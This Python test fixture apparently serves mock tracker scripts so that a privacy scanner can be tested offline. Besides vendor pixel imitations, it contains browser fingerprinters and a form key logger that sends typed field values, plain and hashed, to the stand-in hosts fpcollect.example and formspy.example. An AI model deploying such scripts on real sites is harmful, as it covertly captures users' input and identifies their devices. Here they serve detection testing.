"""Local stand-ins for each vendor's script: they read the queue the published snippet builds and
send that vendor's beacons, so the scanner sees the same traffic as on a real site, offline."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

META = r"""(function(){
  var q = (window.fbq && window.fbq.queue) || [], ids = [], ud = {};
  function send(ev, data){ ids.forEach(function(id){
    var p = new URLSearchParams({id: id, ev: ev, dl: location.href, ts: String(Date.now())});
    Object.keys(data || {}).forEach(function(k){ p.append('cd[' + k + ']', data[k]); });
    Object.keys(ud).forEach(function(k){ p.append('ud[' + k + ']', ud[k]); });
    new Image().src = 'https://www.facebook.com/tr/?' + p.toString();
  }); }
  function handle(a){ a = Array.prototype.slice.call(a);
    if (a[0] === 'init') { ids.push(a[1]); if (a[2]) ud = a[2];
      var s = document.createElement('script');
      s.src = 'https://connect.facebook.net/signals/config/' + a[1] + '?v=2.9.1';
      document.head.appendChild(s); }
    else if (a[0] === 'track' || a[0] === 'trackCustom') send(a[1], a[2]); }
  window.fbq.callMethod = function(){ handle(arguments); };
  q.forEach(handle);
  // Automatic advanced matching: an email typed into the page goes out hashed, before any submit.
  document.addEventListener('change', function(e){
    var el = e.target; if (!el || el.type !== 'email' || !el.value || !crypto.subtle) return;
    crypto.subtle.digest('SHA-256', new TextEncoder().encode(el.value.trim().toLowerCase()))
      .then(function(d){ ud = Object.assign({}, ud, {em: Array.from(new Uint8Array(d))
        .map(function(b){ return ('0' + b.toString(16)).slice(-2); }).join('')});
        send('SubscribedButtonClick', {}); });
  }, true);
})();"""

GTAG = r"""(function(){
  var dl = window.dataLayer = window.dataLayer || [], ga4 = [];
  function ga4send(id, lines){
    var url = 'https://region1.google-analytics.com/g/collect?v=2&tid=' + id + '&dl=' +
      encodeURIComponent(location.href) + '&dt=' + encodeURIComponent(document.title);
    if (lines.length === 1) navigator.sendBeacon(url + '&' + lines[0]);
    else navigator.sendBeacon(url, lines.join('\n'));
  }
  var userData = null;
  function handle(a){
    if (!a || typeof a.length !== 'number' || typeof a[0] !== 'string') return;
    if (a[0] === 'set' && a[1] === 'user_data') { userData = a[2]; return; }
    if (a[0] === 'config') { var id = a[1];
      if (/^G-/.test(id)) { ga4.push(id); ga4send(id, ['en=page_view']); }
      else if (/^AW-/.test(id)) new Image().src =
        'https://googleads.g.doubleclick.net/pagead/viewthroughconversion/' + id.slice(3) +
        '/?random=' + Date.now() + '&url=' + encodeURIComponent(location.href);
      else if (/^UA-/.test(id)) new Image().src =
        'https://www.google-analytics.com/collect?v=1&t=pageview&tid=' + id;
    } else if (a[0] === 'event') { var name = a[1], params = a[2] || {};
      ga4.forEach(function(id){ ga4send(id, ['en=' + encodeURIComponent(name) + '&ep.label=' +
        encodeURIComponent(params.event_label || ''), 'en=user_engagement']); });
      if (params.send_to && /^AW-/.test(params.send_to)) {
        var parts = params.send_to.slice(3).split('/');
        var em = userData && userData.sha256_email_address;
        new Image().src = 'https://www.googleadservices.com/pagead/conversion/' + parts[0] +
          '/?label=' + parts[1] + '&en=' + name + (em ? '&em=tv.1~em.' + em : ''); }
    }
  }
  dl.forEach(handle);
  var push = dl.push;
  dl.push = function(){ Array.prototype.forEach.call(arguments, handle);
    return push.apply(dl, arguments); };
})();"""

UNIVERSAL = r"""(function(){
  var name = window.GoogleAnalyticsObject || 'ga', q = (window[name] && window[name].q) || [];
  var tid = null;
  function handle(a){ if (a[0] === 'create') tid = a[1]; else if (a[0] === 'send') {
    var u = 'https://www.google-analytics.com/collect?v=1&tid=' + tid + '&t=' + a[1];
    if (a[1] === 'event')
      u += '&ec=' + encodeURIComponent(a[2]) + '&ea=' + encodeURIComponent(a[3]);
    new Image().src = u; } }
  q.forEach(handle);
  window[name] = function(){ handle(arguments); };
})();"""

TIKTOK = r"""(function(){
  var ttq = window.ttq, code = new URL(document.currentScript.src).searchParams.get('sdkid');
  function send(ev, props){ navigator.sendBeacon('https://analytics.tiktok.com/api/v2/pixel',
    JSON.stringify({event: ev, event_id: String(Date.now()), context: {pixel: {code: code},
      page: {url: location.href}}, properties: props || {}})); }
  function handle(a){ a = Array.prototype.slice.call(a);
    if (a[0] === 'page') send('Pageview'); else if (a[0] === 'track') send(a[1], a[2]); }
  Array.prototype.slice.call(ttq).forEach(handle);
  ttq.page = function(){ handle(['page']); };
  ttq.track = function(e, p){ handle(['track', e, p]); };
})();"""

LINKEDIN = r"""(function(){
  var ids = window._linkedin_data_partner_ids || [];
  function collect(extra){ ids.forEach(function(pid){ new Image().src =
    'https://px.ads.linkedin.com/collect?v=2&fmt=js&pid=' + pid + '&time=' + Date.now() +
    '&url=' + encodeURIComponent(location.href) + (extra || ''); }); }
  collect('');
  var q = (window.lintrk && window.lintrk.q) || [];
  window.lintrk = function(a, b){ if (a === 'track') collect('&conversionId=' + b.conversion_id); };
  q.forEach(function(x){ window.lintrk(x[0], x[1]); });
})();"""

X = r"""(function(){
  var twq = window.twq, q = twq.queue || [], id = null;
  function px(events){ var e = encodeURIComponent(JSON.stringify(events));
    new Image().src = 'https://analytics.twitter.com/i/adsct?txn_id=' + id +
      '&p_id=Twitter&events=' + e;
    new Image().src = 'https://t.co/i/adsct?txn_id=' + id + '&p_id=Twitter&events=' + e; }
  function handle(a){ a = Array.prototype.slice.call(a);
    if (a[0] === 'config' || a[0] === 'init') { id = a[1]; px([['pageview', {}]]); }
    else if (a[0] === 'event') px([[a[1], a[2] || {}]]); }
  twq.exe = function(){ handle(arguments); };
  q.forEach(handle);
})();"""

PINTEREST = r"""(function(){
  var q = window.pintrk.queue || [], tid = null, pd = {};
  function send(ev){ var p = new URLSearchParams({tid: tid, event: ev});
    Object.keys(pd).forEach(function(k){ p.append('pd[' + k + ']', pd[k]); });
    new Image().src = 'https://ct.pinterest.com/v3/?' + p.toString(); }
  function handle(a){ a = Array.prototype.slice.call(a);
    if (a[0] === 'load') { tid = a[1]; pd = a[2] || {}; send('init'); }
    else if (a[0] === 'page') send('pagevisit'); else if (a[0] === 'track') send(a[1]); }
  window.pintrk = function(){ handle(arguments); };
  window.pintrk.queue = [];
  q.forEach(handle);
})();"""

SNAP = r"""(function(){
  var s = window.snaptr, q = s.queue || [], pid = null;
  function send(ev){ navigator.sendBeacon('https://tr.snapchat.com/p', new Blob(
    [new URLSearchParams({pid: pid, ev: ev, v: '1.0', ts: String(Date.now())}).toString()],
    {type: 'application/x-www-form-urlencoded'})); }
  function handle(a){ a = Array.prototype.slice.call(a);
    if (a[0] === 'init') pid = a[1]; else if (a[0] === 'track') send(a[1]); }
  s.handleRequest = function(){ handle(arguments); };
  q.forEach(handle);
})();"""

BING = r"""function UET(o){ this.ti = o.ti; }
UET.prototype.push = function(){ var a = Array.prototype.slice.call(arguments);
  var u = 'https://bat.bing.com/action/0?ti=' + this.ti + '&Ver=2&mid=' + Date.now();
  if (a[0] === 'pageLoad') u += '&evt=pageLoad';
  else if (a[0] === 'event') u += '&evt=custom&ea=' + encodeURIComponent(a[1]);
  else return;
  new Image().src = u; };"""

HOTJAR = r"""(function(){ var s = window._hjSettings;
  fetch('https://in.hotjar.com/api/v2/client/sites/' + s.hjid + '/visit-data?sv=' + s.hjsv,
    {method: 'POST', keepalive: true, mode: 'no-cors', body: JSON.stringify({r_value: 1})});
})();"""

CLARITY = r"""(function(){
  navigator.sendBeacon('https://e.clarity.ms/collect', new Uint8Array([31, 139, 8, 0, 1, 2, 3]));
})();"""

REDDIT = r"""(function(){
  var r = window.rdt, q = r.callQueue || [], id = null;
  function handle(a){ a = Array.prototype.slice.call(a);
    if (a[0] === 'init') id = a[1];
    else if (a[0] === 'track') new Image().src = 'https://alb.reddit.com/rp.gif?ts=' +
      Date.now() + '&id=' + id + '&event=' + encodeURIComponent(a[1]); }
  r.sendEvent = function(){ handle(arguments); };
  q.forEach(handle);
})();"""


def _recorder(upload: str) -> str:
    """A session recorder's script: it uploads what it recorded, twice, to one endpoint."""
    send = f"navigator.sendBeacon('{upload}', JSON.stringify({{events: 3}}));"
    return f"(function(){{ function up(){{ {send} }} up(); setTimeout(up, 150); }})();"


# Each recorder: (script host, script path) -> where it uploads recordings.
RECORDERS = {
    ("edge.fullstory.com", "/s/fs.js"): "https://rs.fullstory.com/rec/bundle?Seq=1",
    ("cdn.logrocket.io", "/LogRocket.min.js"): "https://r.lr-ingest.io/i?r=1",
    ("cdn.mouseflow.com", "/projects/"): "https://o2.mouseflow.com/events",
    ("web-sdk.smartlook.com", "/recorder.js"): "https://web-writer.eu.smartlook.cloud/rec/v2/write",
    ("tools.luckyorange.com", "/core/lo.js"): "https://w1.luckyorange.com/w",
    ("cdn.inspectlet.com", "/inspectlet.js"): "https://hn.inspectlet.com/recording",
    ("mc.yandex.ru", "/metrika/tag.js"): "https://mc.yandex.ru/webvisor/87654321?rn=1",
    ("cdn.quantummetric.com", "/qscripts/"): "https://rl.quantummetric.com/horizon/clinic",
    ("t.contentsquare.net", "/uxa/"): "https://c.contentsquare.net/pageview",
    ("cdn.heapanalytics.com", "/js/heap-"): "https://heapanalytics.com/h?a=123456789",
}

# Fingerprinters, as FingerprintJS and its kin do it: each sends its result to fpcollect.example.
CANVAS_FINGERPRINTER = r"""(function(){
  var c = document.createElement('canvas'); c.width = 240; c.height = 60;
  var x = c.getContext('2d'); x.textBaseline = 'top'; x.font = '14px Arial';
  x.fillStyle = '#f60'; x.fillRect(125, 1, 62, 20);
  x.fillStyle = '#069'; x.fillText('Cwm fjordbank glyphs vext quiz', 2, 15);
  x.fillStyle = 'rgba(102, 204, 0, 0.7)'; x.fillText('Cwm fjordbank glyphs vext quiz', 4, 17);
  new Image().src = 'https://fpcollect.example/c?h=' + c.toDataURL().length;
})();"""
FONT_PROBER = r"""(function(){
  var fonts = ['Arial','Verdana','Helvetica','Tahoma','Trebuchet MS','Times New Roman','Georgia',
    'Garamond','Courier New','Brush Script MT','Palatino','Bookman','Comic Sans MS','Impact',
    'Lucida Console','Lucida Sans','Segoe UI','Calibri','Cambria','Candara','Consolas',
    'Constantia','Corbel','Franklin Gothic','Futura','Gill Sans','Optima','Rockwell','Baskerville',
    'Didot','Bodoni','Century Gothic','Copperplate','Papyrus','Monaco','Menlo','Geneva',
    'Andale Mono','Arial Black','Arial Narrow','Book Antiqua','Charcoal','Chicago','Skia',
    'Hoefler Text','American Typewriter','Avenir','Big Caslon','Herculanum','Marker Felt',
    'Noteworthy','Zapfino','Cochin','Apple Chancery','Helvetica Neue','Ubuntu','Cantarell'];
  var x = document.createElement('canvas').getContext('2d'), found = 0;
  fonts.forEach(function(f){ x.font = '72px "' + f + '", monospace';
    if (x.measureText('mmmmmmmmmmlli').width !== 0) found++; });
  new Image().src = 'https://fpcollect.example/f?n=' + found;
})();"""
WEBGL_FINGERPRINTER = r"""(function(){
  var gl = document.createElement('canvas').getContext('webgl'); if (!gl) return;
  var info = gl.getExtension('WEBGL_debug_renderer_info');
  var r = info ? gl.getParameter(info.UNMASKED_RENDERER_WEBGL) : '';
  new Image().src = 'https://fpcollect.example/g?r=' + encodeURIComponent(String(r).slice(0, 20));
})();"""
AUDIO_FINGERPRINTER = r"""(function(){
  var Ctx = window.OfflineAudioContext || window.webkitOfflineAudioContext; if (!Ctx) return;
  var ctx = new Ctx(1, 5000, 44100), osc = ctx.createOscillator();
  osc.type = 'triangle'; osc.frequency.value = 10000;
  var comp = ctx.createDynamicsCompressor(); osc.connect(comp); comp.connect(ctx.destination);
  osc.start(0);
  ctx.startRendering().then(function(buffer){ var s = 0, d = buffer.getChannelData(0);
    for (var i = 4500; i < 5000; i++) s += Math.abs(d[i]);
    new Image().src = 'https://fpcollect.example/a?s=' + s; });
})();"""
# A form key logger: on every change it sends the value plainly and sha256-hashed, unsubmitted.
KEY_LOGGER = r"""(function(){
  document.addEventListener('change', function(e){ var el = e.target;
    if (!el || !('value' in el) || !el.value) return;
    new Image().src = 'https://formspy.example/k?f=' + encodeURIComponent(el.name) + '&v=' +
      encodeURIComponent(el.value);
    crypto.subtle.digest('SHA-256', new TextEncoder().encode(el.value.trim().toLowerCase()))
      .then(function(d){ var hex = Array.from(new Uint8Array(d)).map(function(b){
        return ('0' + b.toString(16)).slice(-2); }).join('');
        navigator.sendBeacon('https://formspy.example/h', JSON.stringify({f: el.name, h: hex}));
      });
  }, true);
})();"""

# (host, path prefix) -> script body. Anything else on a vendor host is a beacon: 200, empty.
SCRIPTS: dict[tuple[str, str], str] = {
    ("connect.facebook.net", "/en_US/fbevents.js"): META,
    ("connect.facebook.net", "/signals/config/"): "/* config */",
    ("www.googletagmanager.com", "/gtag/js"): GTAG,
    ("www.googletagmanager.com", "/gtm.js"): "/* container */",
    ("www.google-analytics.com", "/analytics.js"): UNIVERSAL,
    ("analytics.tiktok.com", "/i18n/pixel/events.js"): TIKTOK,
    ("snap.licdn.com", "/li.lms-analytics/insight.min.js"): LINKEDIN,
    ("static.ads-twitter.com", "/uwt.js"): X,
    ("s.pinimg.com", "/ct/core.js"): PINTEREST,
    ("sc-static.net", "/scevent.min.js"): SNAP,
    ("bat.bing.com", "/bat.js"): BING,
    ("static.hotjar.com", "/c/hotjar-"): HOTJAR,
    ("www.clarity.ms", "/tag/"): CLARITY,
    ("www.redditstatic.com", "/ads/pixel.js"): REDDIT,
    ("fpcollect.example", "/canvas.js"): CANVAS_FINGERPRINTER,
    ("fpcollect.example", "/fonts.js"): FONT_PROBER,
    ("fpcollect.example", "/webgl.js"): WEBGL_FINGERPRINTER,
    ("fpcollect.example", "/audio.js"): AUDIO_FINGERPRINTER,
    ("formspy.example", "/keys.js"): KEY_LOGGER,
    **{script: _recorder(upload) for script, upload in RECORDERS.items()},
}

VENDOR_DOMAINS = (
    "facebook.net",
    "facebook.com",
    "googletagmanager.com",
    "google-analytics.com",
    "doubleclick.net",
    "googleadservices.com",
    "tiktok.com",
    "licdn.com",
    "linkedin.com",
    "ads-twitter.com",
    "twitter.com",
    "t.co",
    "pinimg.com",
    "pinterest.com",
    "sc-static.net",
    "snapchat.com",
    "bing.com",
    "hotjar.com",
    "clarity.ms",
    "redditstatic.com",
    "reddit.com",
    "fullstory.com",
    "logrocket.io",
    "lr-ingest.io",
    "mouseflow.com",
    "smartlook.com",
    "smartlook.cloud",
    "luckyorange.com",
    "inspectlet.com",
    "yandex.ru",
    "quantummetric.com",
    "contentsquare.net",
    "heapanalytics.com",
    "fpcollect.example",
    "formspy.example",
)
CORS = {
    "Access-Control-Allow-Origin": "*",
    "Access-Control-Allow-Headers": "content-type",
    "Access-Control-Allow-Methods": "GET, POST, OPTIONS",
}


def is_vendor(host: str) -> bool:
    return any(host == d or host.endswith("." + d) for d in VENDOR_DOMAINS)


def reply(url: str) -> tuple[dict[str, str], str] | None:
    """The headers and body a vendor host answers `url` with; None if the host is no vendor's."""
    parts = urlsplit(url)
    host = parts.hostname or ""
    if not is_vendor(host):
        return None
    for (script_host, prefix), body in SCRIPTS.items():
        if host == script_host and parts.path.startswith(prefix):
            return {**CORS, "Content-Type": "text/javascript"}, body
    # Beacons set the vendor's own cookie, as the real endpoints do: a third-party cookie.
    cookie = f"vendor_uid=1; Domain={host}; Path=/; SameSite=None; Secure"
    return {**CORS, "Content-Type": "image/gif", "Set-Cookie": cookie}, ""


def answer_vendors(served: list[str]) -> Callable[[Any], None]:
    """A context_setup that answers every vendor host locally and records what it answered."""

    def route(route: Any) -> None:
        url = route.request.url
        answer = reply(url)
        if answer is None:
            route.fallback()
            return
        served.append(url)
        headers, body = answer
        route.fulfill(status=200, body=body, headers=headers)

    def setup(context: Any) -> None:
        context.route("**/*", route)

    return setup
